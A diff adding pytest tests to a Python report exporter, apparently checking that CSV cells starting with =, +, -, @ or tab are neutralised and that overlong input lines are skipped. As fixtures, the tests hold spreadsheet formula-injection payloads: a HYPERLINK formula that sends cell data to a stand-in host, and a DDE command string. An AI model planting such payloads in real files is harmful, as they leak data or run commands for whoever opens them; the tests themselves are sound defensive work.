@@ -149,3 +149,44 @@ def test_cli_keeps_latest_revision_and_reports_bad_lines(tmp_path, capsys):
     with open(out.with_suffix(".so-theo-doi.csv"), encoding="utf-8-sig") as f:
         rows = list(csv.DictReader(f))
     assert len(rows) == counted and rows[-1]["Mã hồ sơ"] == records[0]["dossier"] and rows[-1]["Kết quả"] == "Quá hạn"
+
+
+def test_csv_lists_neutralise_formulas_like_the_csv_sink(tmp_path):
+    """A cell a spreadsheet would run (=, +, -, @, tab, CR first) is written with a leading apostrophe."""
+    from isobridge.adapters.csvexport.rows import cell as sink_cell
+    from isobridge.core.report.cells import cell
+
+    hostile = {"agency": "=HYPERLINK(\"http://x.example/?\"&A1)", "dossier": "+HS-1",
+               "nonconformities": [{"kind": "late_step", "step": "@SUM(A1)", "detail": "-1+1 cmd|' /C calc'!A0"},
+                                   {"kind": "missing_step", "step": "\tTN", "detail": "ok"}]}
+    data, files = write_report([dossier(**hostile)], tmp_path / "report.html")
+    with open(files.ledger_csv, encoding="utf-8-sig", newline="") as f:
+        ledger = next(csv.DictReader(f))
+    assert ledger["Cơ quan chủ trì giải quyết"] == "'" + hostile["agency"] and ledger["Mã hồ sơ"] == "'+HS-1"
+    with open(files.nonconformities_csv, encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert [r["Bước"][:9] for r in rows] == ["'@SUM(A1)", "'\tTN"[:9]]
+    assert all(not r["Mô tả"].startswith(("=", "+", "-", "@")) for r in rows)
+    assert rows[0]["Mã hồ sơ"] == "'+HS-1"
+    assert sink_cell is cell  # one neutraliser for every CSV isobridge writes
+    assert data.ledger[0]["agency"] == hostile["agency"]  # the HTML shows the text as it is (escaped)
+
+
+def test_an_overlong_line_is_rejected_unread_and_the_rest_counted(tmp_path, capsys, monkeypatch):
+    """A line past MAX_LINE_BYTES (a file with no line ends, say) is skipped with its line number;
+    bad lines are counted past the twenty shown, so memory stays bounded."""
+    import orjson
+    from isobridge.core.report import source
+
+    monkeypatch.setattr(source, "MAX_LINE_BYTES", 4096)
+    records = evidence(3)
+    lines = [orjson.dumps(records[0]), b"x" * 10_000, orjson.dumps(records[1])]
+    lines += [b"{bad"] * 30 + [orjson.dumps(records[2])]
+    path = tmp_path / "evidence.jsonl"
+    path.write_bytes(b"\n".join(lines) + b"\n")
+    assert run_cli("--evidence", str(path), "--out", str(tmp_path / "r.html")) == 3
+    err = capsys.readouterr().err
+    assert "3 dossiers" in err and "unusable lines 31" in err
+    assert f"{path}:2: line longer than 4096 bytes" in err
+    found = source.find_dossier(str(path), records[2]["dossier"], lambda where, reasons: None)
+    assert found == records[2]
